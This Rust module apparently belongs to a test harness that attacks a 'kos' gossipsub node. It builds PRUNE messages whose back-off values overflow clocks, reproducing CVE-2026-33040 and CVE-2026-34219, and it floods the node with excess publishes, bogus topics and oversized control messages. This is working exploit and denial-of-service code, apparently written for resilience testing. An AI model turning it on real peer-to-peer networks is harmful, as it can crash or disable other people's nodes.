//! gossipsub by hand: back-offs that overflow clocks, and floods.
//!
//! The back-offs are those of CVE-2026-33040 and CVE-2026-34219: a `PRUNE` whose seconds overflow an instant at once,
//! and one that does only when the heartbeat, a minute later, adds its slack.

use super::{
    Stage,
    identify::field,
    refused,
    wire::{Link, Raw, read_varint, varint},
};
use anyhow::{Context as _, ensure};
use kos_protocol::cbor;
use serde::Serialize;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const GOSSIP: &str = "/kos/gossip/1";
/// Longest message of the target's that is read.
const RPC_BYTES_MAX: u64 = 1 << 20;

/// How long the target may take to let a further stream in.
const AGAIN: Duration = Duration::from_millis(500);

/// A member that gossips with the target.
pub(super) struct Peer {
    link: Link,
    out: Raw,
    topics: Vec<String>,
}

/// Makes a gossip link, and learns from the target which topics there are.
pub(super) async fn begin(stage: &Stage) -> anyhow::Result<Peer> {
    let mut link = Link::tcp(&stage.actor.secret, stage.target.tcp, stage.target.from(), &[GOSSIP]).await?;
    let mut out = link.open(GOSSIP).await?;
    out.write_all(&rpc(&[])).await?;
    out.flush().await?;
    let told = tokio::time::timeout(Duration::from_secs(20), link.inbound.recv());
    let mut told = told.await.context("the target does not gossip")?.context("the link ended")?.stream;
    let mut topics = Vec::new();
    while topics.is_empty() {
        topics = read_topics(&mut told).await?;
    }
    tokio::spawn(async move { tokio::io::copy(&mut told, &mut tokio::io::sink()).await });
    Ok(Peer { link, out, topics })
}

impl Peer {
    /// Whether the bytes went out. A target that has enough of a stream may leave it unread.
    async fn send(&mut self, bytes: &[u8]) -> bool {
        let sent = async { self.out.write_all(bytes).await.is_ok() && self.out.flush().await.is_ok() };
        tokio::time::timeout(AGAIN, sent).await.unwrap_or(false)
    }

    /// Publishes these items, each in a message of its own.
    pub(super) async fn publish(&mut self, stage: &Stage, items: &[Vec<u8>]) {
        let topic = &self.topics[0];
        let messages: Vec<_> = items.iter().map(|item| rpc(&[publish(topic, item)])).collect();
        if !self.send(&messages.concat()).await {
            refused(self.again(stage).await);
        }
    }

    /// Another stream, on another link if need be. The target tells its topics only once.
    async fn again(&mut self, stage: &Stage) -> anyhow::Result<()> {
        if !self.link.is_open() {
            self.link =
                Link::tcp(&stage.actor.secret, stage.target.tcp, stage.target.from(), &[GOSSIP]).await?;
        }
        let opened = tokio::time::timeout(AGAIN, self.link.open(GOSSIP)).await;
        match opened {
            Ok(Ok(out)) => self.out = out,
            // After a few broken streams libp2p takes no further one of this connection.
            _ => {
                self.link =
                    Link::tcp(&stage.actor.secret, stage.target.tcp, stage.target.from(), &[GOSSIP]).await?;
            }
        }
        Ok(())
    }
}

async fn read_topics(told: &mut Raw) -> anyhow::Result<Vec<String>> {
    let length = read_varint(told).await?;
    ensure!(length <= RPC_BYTES_MAX, "a message of {length} bytes");
    let mut message = vec![0; length as usize];
    told.read_exact(&mut message).await?;
    let mut topics = Vec::new();
    // RPC { 1: subscriptions { 1: bool, 2: topic } }; topics are 64 hexadecimal digits.
    let mut rest = &message[..];
    while let Some(at) = rest.windows(2).position(|pair| pair == [0x12, 64]) {
        let text = rest.get(at + 2..at + 66).unwrap_or_default();
        if text.len() == 64 && text.iter().all(u8::is_ascii_hexdigit) {
            topics.push(String::from_utf8_lossy(text).into_owned());
        }
        rest = &rest[at + 2..];
    }
    Ok(topics)
}

/// An RPC with its length.
fn rpc(fields: &[(u8, Vec<u8>)]) -> Vec<u8> {
    let mut body = Vec::new();
    for (number, bytes) in fields {
        field(&mut body, *number, bytes);
    }
    [varint(body.len() as u64), body].concat()
}

fn subscription(topic: &str) -> (u8, Vec<u8>) {
    let mut body = vec![0x08, 1];
    field(&mut body, 2, topic.as_bytes());
    (1, body)
}

fn publish(topic: &str, data: &[u8]) -> (u8, Vec<u8>) {
    let mut body = Vec::new();
    field(&mut body, 2, data);
    field(&mut body, 4, topic.as_bytes());
    (2, body)
}

/// A control message with one entry of this kind.
fn control(kind: u8, entry: Vec<u8>) -> (u8, Vec<u8>) {
    let mut body = Vec::new();
    field(&mut body, kind, &entry);
    (3, body)
}

fn graft(topic: &str) -> (u8, Vec<u8>) {
    let mut entry = Vec::new();
    field(&mut entry, 1, topic.as_bytes());
    control(3, entry)
}

fn prune(topic: &str, backoff_s: u64) -> (u8, Vec<u8>) {
    let mut entry = Vec::new();
    field(&mut entry, 1, topic.as_bytes());
    entry.push(3 << 3);
    // Ten bytes at most: every u64 is to fit.
    entry.extend(varint(backoff_s));
    control(4, entry)
}

/// Back-offs at the edges of what an instant holds.
///
/// # Errors
/// When the target does not take the attacker for a gossip peer.
pub async fn overflows(stage: &Stage) -> anyhow::Result<()> {
    let edges =
        [u64::MAX, u64::MAX / 2, i64::MAX as u64 - 60, i64::MAX as u64 - 100_000, 9_223_372_036_854_674_580];
    let near = (0..40).map(|n| i64::MAX as u64 - n * 97 - uptime_s());
    let backoffs: Vec<u64> = edges.into_iter().chain(near).chain([u64::from(u32::MAX), 0]).collect();
    let mut peer = begin(stage).await?;
    let topics = peer.topics.clone();
    let subscriptions: Vec<_> = topics.iter().map(|topic| subscription(topic)).collect();
    peer.out.write_all(&rpc(&subscriptions)).await?;
    for backoff in backoffs.iter().cycle() {
        if !stage.goes_on().await {
            break;
        }
        for topic in &topics {
            let bytes = [rpc(&[graft(topic)]), rpc(&[prune(topic, *backoff)])].concat();
            if !peer.send(&bytes).await {
                refused(peer.again(stage).await);
            }
        }
    }
    Ok(())
}

/// Seconds this machine has been up: where its clock stands.
fn uptime_s() -> u64 {
    let text = std::fs::read_to_string("/proc/uptime").unwrap_or_default();
    text.split('.').next().and_then(|seconds| seconds.parse().ok()).unwrap_or(0)
}

#[derive(Serialize)]
struct Item {
    kind: &'static str,
    #[serde(with = "serde_bytes")]
    body: Vec<u8>,
}

/// Topics without end, messages above the agreed rate, garbage, and control messages for what does not exist.
///
/// # Errors
/// When the target does not take the attacker for a gossip peer.
pub async fn floods(stage: &Stage) -> anyhow::Result<()> {
    let mut peer = begin(stage).await?;
    let topic = peer.topics[0].clone();
    let mut n = 0u64;
    // Above the burst first, with items that are not held against their bearer: of kinds nobody knows.
    for _ in 0..700 {
        n += 1;
        let item = Item { kind: "weather", body: n.to_be_bytes().to_vec() };
        if !peer.send(&rpc(&[publish(&topic, &cbor::encode(&item))])).await {
            break;
        }
        if n.is_multiple_of(20) {
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
    }
    for at in 0..200 {
        peer.send(&rpc(&[subscription(&format!("none-{at}"))])).await;
    }
    while stage.goes_on().await {
        n += 1;
        let ids = [n.to_be_bytes().to_vec(), vec![7; 32]];
        let mut have = Vec::new();
        field(&mut have, 1, topic.as_bytes());
        ids.iter().cycle().take(400).for_each(|id| field(&mut have, 2, id));
        let mut want = Vec::new();
        ids.iter().cycle().take(400).for_each(|id| field(&mut want, 1, id));
        let messages = [
            rpc(&[publish(&topic, &n.to_be_bytes())]),
            rpc(&[publish(&topic, &vec![n as u8; 17_000])]),
            rpc(&[control(1, have)]),
            rpc(&[control(2, want.clone())]),
            rpc(&[control(5, want)]),
            rpc(&[subscription(&format!("none-{n}"))]),
        ];
        let sent = peer.send(&messages.concat()).await;
        if !sent || n.is_multiple_of(500) {
            refused(peer.again(stage).await);
        }
    }
    Ok(())
}
